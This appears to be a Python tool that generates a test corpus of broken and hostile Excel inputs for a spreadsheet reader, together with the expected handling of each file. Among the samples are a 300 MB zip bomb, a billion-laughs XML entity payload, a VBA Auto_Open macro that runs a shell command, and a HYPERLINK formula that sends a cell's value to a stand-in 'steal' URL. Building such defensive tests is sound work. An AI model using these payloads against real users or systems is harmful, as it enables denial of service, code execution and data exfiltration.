"""Generate the corpus of bad and hostile inputs (issue 7) into a folder.

Usage::

    .venv/bin/python tools/make_bad_corpus.py OUTDIR [--no-libreoffice] [--bomb-mb 300]

Every file is made by a real library: perfxl's own writer (openpyxl) for the workbooks,
xlsxwriter for the 100,000-row sheet, python-docx for the Word file, msoffcrypto-tool for
the encrypted workbook, pyOpenVBA for the macro, LibreOffice headless for the .xls and for
cached ``#DIV/0!`` values, and ``zipfile`` for the broken, bomb and DTD files. Nothing is a
hand-made binary. Zip entry dates and document dates are fixed, so the files perfxl writes
come out the same on every run (the encrypted file's salt and LibreOffice's output vary).

``CORPUS`` says, for each file, what perfxl is expected to do with it; the tests read it.
"""

from __future__ import annotations

import argparse
import copy
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import uuid
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "examples" / "suying-2023.json"
FIXED_DATE = (2023, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Case:
    """One corpus file and what perfxl does with it.

    Attributes:
        name: the file name.
        outcome: ``good`` (read, no read error), ``problems`` (read, with problems),
            ``not_perfxl`` (opens, but holds no perfxl sheet), ``unreadable`` (refused).
        error: for ``unreadable``, the exception class perfxl raises.
        rules: rule ids the read must report (for ``problems``).
        needs_lo: made with LibreOffice.
    """

    name: str
    outcome: str
    error: str | None = None
    rules: tuple[str, ...] = ()
    needs_lo: bool = False


CHINESE_NAME = "苏营镇 2023年 绩效目标（定稿）.xlsx"
OWNER = "~$open-in-excel.xlsx"
HYPERLINK_TEXT = '=HYPERLINK("http://example.invalid/steal?x="&A1,"点我领取补贴")'

CORPUS: tuple[Case, ...] = (
    Case("good.xlsx", "good"),
    Case(CHINESE_NAME, "good"),
    Case("readonly.xlsx", "good"),
    Case("open-in-excel.xlsx", "good"),
    Case("macro.xlsm", "good"),
    Case("legacy.xls", "good", needs_lo=True),
    Case("special-sheet-name.xlsx", "good"),
    Case("control-chars.xlsx", "good"),
    Case("hyperlink-text.xlsx", "good"),
    Case("amounts-text.xlsx", "problems", rules=("read.amount_text", "read.amount_unreadable")),
    Case("formulas-no-cache.xlsx", "problems"),
    Case("formulas-div0.xlsx", "problems", rules=("read.amount_unreadable",), needs_lo=True),
    Case("labels-moved.xlsx", "problems", rules=("read.label_missing",)),
    Case("rows-inserted.xlsx", "problems"),
    Case("rows-deleted.xlsx", "problems", rules=("read.label_missing",)),
    Case("merges-broken.xlsx", "problems"),
    Case("no-project-sheet.xlsx", "not_perfxl"),
    Case("rows-100000.xlsx", "not_perfxl"),
    Case("empty.xlsx", "unreadable", "CorruptWorkbookError"),
    Case("truncated.xlsx", "unreadable", "CorruptWorkbookError"),
    Case("corrupt-crc.xlsx", "unreadable", "CorruptWorkbookError"),
    Case("csv-renamed.xlsx", "unreadable", "NotAWorkbookError"),
    Case("docx-renamed.xlsx", "unreadable", "NotAWorkbookError"),
    Case("html-as.xls", "unreadable", "NotAWorkbookError"),
    Case("encrypted.xlsx", "unreadable", "EncryptedWorkbookError"),
    Case("bomb.xlsx", "unreadable", "UnsafeWorkbookError"),
    Case("billion-laughs.xlsx", "unreadable", "UnsafeWorkbookError"),
    Case("cell-1mb.xlsx", "unreadable", "UnsafeWorkbookError"),
    Case(OWNER, "unreadable", "NotAWorkbookError"),
)


def _seed(code: str, name: str, projects: int = 3) -> Any:
    """A Targets from the seed, cut to a few projects, with its own unit code and name."""
    from perfxl.model import Targets

    data = copy.deepcopy(json.loads(SEED.read_text(encoding="utf-8")))
    data["projects"] = data["projects"][:projects]
    data["unit"]["code"], data["unit"]["name"] = code, name
    return Targets.from_dict(data)


_UNITS = iter(range(920001, 920999))


def _book(projects: int = 3) -> Any:
    """A perfxl workbook (openpyxl, in memory) for a unit of its own."""
    from perfxl.write.fill import build_workbook

    code = str(next(_UNITS))
    return build_workbook(_seed(code, f"测试单位{code}", projects))


def _save(wb: Any, out: Path) -> Path:
    wb.properties.created = wb.properties.modified = __import__("datetime").datetime(2023, 1, 1)
    buf = io.BytesIO()
    wb.save(buf)
    out.write_bytes(_fixed_dates(buf.getvalue()))
    return out


def _fixed_dates(data: bytes, *, stored: set[str] | None = None) -> bytes:
    """The same zip with fixed entry dates (and chosen members stored uncompressed)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb">\d{4}-\d\d-\d\dT[\d:]+Z<", b">2023-01-01T00:00:00Z<", body)
            method = (
                zipfile.ZIP_STORED if stored and info.filename in stored else zipfile.ZIP_DEFLATED
            )
            zi = zipfile.ZipInfo(info.filename, FIXED_DATE)
            zi.compress_type = method
            dst.writestr(zi, body)
    return buf.getvalue()


def _rewrite(src: Path, out: Path, change: dict[str, bytes]) -> Path:
    """Copy a zip, replacing or adding members."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = change.pop(info.filename, None)
            zi = zipfile.ZipInfo(info.filename, FIXED_DATE)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(zi, body if body is not None else zin.read(info))
        for name, body in change.items():
            zi = zipfile.ZipInfo(name, FIXED_DATE)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(zi, body)
    return out


def _project(wb: Any, index: int = 0) -> Any:
    return wb.worksheets[2 + index]  # cover, overall, then the project sheets


def make_good(out: Path) -> None:
    """The workbooks that must be read in full."""
    _save(_book(), out / "good.xlsx")
    _save(_book(), out / CHINESE_NAME)
    ro = _save(_book(), out / "readonly.xlsx")
    ro.chmod(stat.S_IRUSR | stat.S_IRGRP | stat.S_IROTH)
    _save(_book(), out / "open-in-excel.xlsx")
    (out / OWNER).write_bytes(_owner_file("张三"))
    _macro(out / "macro.xlsm")
    wb = _book()
    _project(wb).title = "项目 #1 & <测试> 'x'!%；（一）"
    _save(wb, out / "special-sheet-name.xlsx")
    _control_chars(out / "control-chars.xlsx")
    wb = _book()
    cell = _project(wb)["E3"]
    cell.value, cell.data_type = HYPERLINK_TEXT, "s"  # typed text, not a formula
    _save(wb, out / "hyperlink-text.xlsx")


def _owner_file(user: str) -> bytes:
    """Excel's owner file (``~$book.xlsx``): the user name, padded, as Excel writes it."""
    name = user.encode("utf-16-le")
    ascii_part = user.encode("gbk", "replace")[:53]
    return (
        bytes([len(ascii_part)])
        + ascii_part.ljust(53, b" ")
        + bytes([len(user), 0])
        + name.ljust(108, b"\x00")
    )[:165].ljust(165, b" ")


def _macro(out: Path) -> None:
    """A perfxl workbook with a VBA project whose Auto_Open would run a shell command."""
    from pyopenvba import ExcelFile

    tmp = out.with_name("macro-src.xlsm")
    _save(_book(), tmp)
    with ExcelFile(tmp) as wb:
        project = wb.add_vba_project()
        project.add_module(
            "Module1",
            'Sub Auto_Open()\n    Shell "cmd /c echo perfxl-must-never-run-this > pwned.txt"\nEnd Sub\n',
        )
        wb.save(out)
    tmp.unlink()


def _control_chars(out: Path) -> None:
    """Control characters in a project name, stored the OOXML way (``_x0001_``)."""
    wb = _book()
    _project(wb)["E3"] = "CTRLMARK项目名称"
    tmp = _save(wb, out.with_name("ctrl-src.xlsx"))
    sheet = "xl/worksheets/sheet3.xml"
    with zipfile.ZipFile(tmp) as z:
        body = z.read(sheet).replace(b"CTRLMARK", b"_x0001__x0007__x000B_\t\xe2\x80\x8b")
    _rewrite(tmp, out, {sheet: body})
    tmp.unlink()


def make_problems(out: Path) -> None:
    """Workbooks that read, with problems naming sheet and cell."""
    wb = _book()
    ws = _project(wb)
    ws["C4"], ws["E4"], ws["G4"] = "8.39万元", "８．３９", "1,234.50"
    ws["B7"], ws["C7"] = None, "约八万"
    _save(wb, out / "amounts-text.xlsx")

    wb = _book()
    ws = _project(wb)
    ws["C4"] = "=E4+G4"  # openpyxl writes no cached value
    ws["E3"] = '=HYPERLINK("http://example.invalid/x","点我")'
    _save(wb, out / "formulas-no-cache.xlsx")

    wb = _book()
    ws = _project(wb)
    ws["D3"], ws["E3"] = None, "项目名称"  # 项目名称 moved into the value cell
    _save(wb, out / "labels-moved.xlsx")

    wb = _book()
    _project(wb).insert_rows(1, 2)  # openpyxl moves cells but not the merges
    _save(wb, out / "rows-inserted.xlsx")

    wb = _book()
    _project(wb).delete_rows(4, 2)
    _save(wb, out / "rows-deleted.xlsx")

    wb = _book()
    ws = _project(wb)
    for rng in list(ws.merged_cells.ranges):
        ws.unmerge_cells(str(rng))
    _save(wb, out / "merges-broken.xlsx")

    from openpyxl import Workbook

    plain = Workbook()
    plain.active.title = "汇总"
    for r in range(1, 20):
        plain.active.append([f"第{r}行", r, r * 1.5])
    _save(plain, out / "no-project-sheet.xlsx")

    import xlsxwriter

    big = out / "rows-100000.xlsx"
    xw = xlsxwriter.Workbook(str(big), {"constant_memory": True})
    xw.set_properties({"created": __import__("datetime").datetime(2023, 1, 1)})
    sh = xw.add_worksheet("明细")
    for r in range(100_000):
        sh.write_row(r, 0, (f"项目{r}", r, r * 0.01, "备注"))
    xw.close()
    big.write_bytes(_fixed_dates(big.read_bytes()))


def make_unreadable(out: Path, bomb_mb: int) -> None:
    """Files perfxl refuses, each with its reason."""
    good = out / "good.xlsx"
    data = good.read_bytes()
    (out / "empty.xlsx").write_bytes(b"")
    (out / "truncated.xlsx").write_bytes(data[: len(data) // 2])

    stored = _fixed_dates(data, stored={"xl/worksheets/sheet1.xml"})
    with zipfile.ZipFile(io.BytesIO(stored)) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    bad = bytearray(stored)
    bad[start + info.compress_size // 2] ^= 0x20  # one flipped bit inside the stored part
    (out / "corrupt-crc.xlsx").write_bytes(bytes(bad))

    (out / "csv-renamed.xlsx").write_text(
        "项目编码,项目名称,项目总额\n910001001,乡镇办公运转经费,8.39\n", encoding="utf-8"
    )
    import docx

    doc = docx.Document()
    doc.add_paragraph("预算绩效目标（Word 版）")
    doc.core_properties.created = doc.core_properties.modified = __import__("datetime").datetime(
        2023, 1, 1
    )
    buf = io.BytesIO()
    doc.save(buf)
    (out / "docx-renamed.xlsx").write_bytes(_fixed_dates(buf.getvalue()))
    (out / "html-as.xls").write_text(
        "<html><body><table><tr><td>项目编码</td><td>910001001</td></tr></table></body></html>",
        encoding="utf-8",
    )

    from msoffcrypto.format.ooxml import OOXMLFile

    with good.open("rb") as src, (out / "encrypted.xlsx").open("wb") as dst:
        OOXMLFile(src).encrypt("123456", dst)

    _bomb(good, out / "bomb.xlsx", bomb_mb)

    lol = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + b"]>\n"
    )
    with zipfile.ZipFile(good) as z:
        body = z.read("xl/worksheets/sheet1.xml")
    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", body)
    body = body.replace("单位编码".encode(), b"&lol9;", 1)
    _rewrite(good, out / "billion-laughs.xlsx", {"xl/worksheets/sheet1.xml": lol + body})

    # openpyxl cuts text at Excel's 32,767 characters, so the 1 MB cell is put in the XML.
    wb = _book()
    _project(wb)["B5"] = "BIGCELLMARK"
    tmp = _save(wb, out / "cell-src.xlsx")
    sheet = "xl/worksheets/sheet3.xml"
    with zipfile.ZipFile(tmp) as z:
        body = z.read(sheet).replace(b"BIGCELLMARK", "长".encode() * (1024 * 1024 // 3))
    _rewrite(tmp, out / "cell-1mb.xlsx", {sheet: body})
    tmp.unlink()


def _bomb(good: Path, out: Path, mb: int) -> None:
    """A workbook whose sharedStrings part inflates to ``mb`` megabytes."""
    shutil.copyfile(good, out)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        zi = zipfile.ZipInfo("xl/sharedStrings.xml", FIXED_DATE)
        zi.compress_type = zipfile.ZIP_DEFLATED
        with z.open(zi, "w", force_zip64=True) as fh:
            fh.write(
                b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
            )
            block = b"A" * (1 << 20)
            for _ in range(mb):
                fh.write(block)
            fh.write(b"</t></si></sst>")


def make_libreoffice(out: Path) -> None:
    """The .xls (LibreOffice converts a perfxl workbook) and cached #DIV/0! values."""
    work = out / ".lo-src"
    work.mkdir()
    _save(_book(), work / "legacy.xlsx")
    wb = _book()
    _project(wb)["C4"] = "=1/0"
    _save(wb, work / "formulas-div0.xlsx")
    _soffice("xls", [work / "legacy.xlsx"], out)
    _soffice("xlsx", [work / "formulas-div0.xlsx"], out / ".lo-out")
    (out / ".lo-out" / "formulas-div0.xlsx").replace(out / "formulas-div0.xlsx")
    shutil.rmtree(work)
    shutil.rmtree(out / ".lo-out")


def _soffice(fmt: str, files: list[Path], outdir: Path) -> None:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        raise SystemExit("LibreOffice headless is missing: run `bash tools/ensure-system-deps.sh`")
    profile = Path("/tmp") / f"perfxl-lo-{uuid.uuid4().hex}"
    cmd = [
        exe,
        f"-env:UserInstallation=file://{profile}",
        "--headless",
        "--norestore",
        "--convert-to",
        fmt,
        "--outdir",
        str(outdir),
        *map(str, files),
    ]
    try:
        subprocess.run(cmd, capture_output=True, timeout=180, check=True)
    finally:
        shutil.rmtree(profile, ignore_errors=True)


def make_corpus(out: Path, *, libreoffice: bool = True, bomb_mb: int = 300) -> list[Case]:
    """Write every corpus file into ``out`` (created); return the cases written."""
    out.mkdir(parents=True, exist_ok=True)
    make_good(out)
    make_problems(out)
    make_unreadable(out, bomb_mb)
    if libreoffice:
        make_libreoffice(out)
    return [c for c in CORPUS if libreoffice or not c.needs_lo]


def main(argv: list[str] | None = None) -> int:
    """Command line entry."""
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--no-libreoffice", action="store_true")
    ap.add_argument("--bomb-mb", type=int, default=300)
    args = ap.parse_args(argv)
    sys.path.insert(0, str(ROOT))
    cases = make_corpus(args.out, libreoffice=not args.no_libreoffice, bomb_mb=args.bomb_mb)
    for c in cases:
        size = os.path.getsize(args.out / c.name)
        print(f"{c.outcome:<11} {size:>10}  {c.name}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
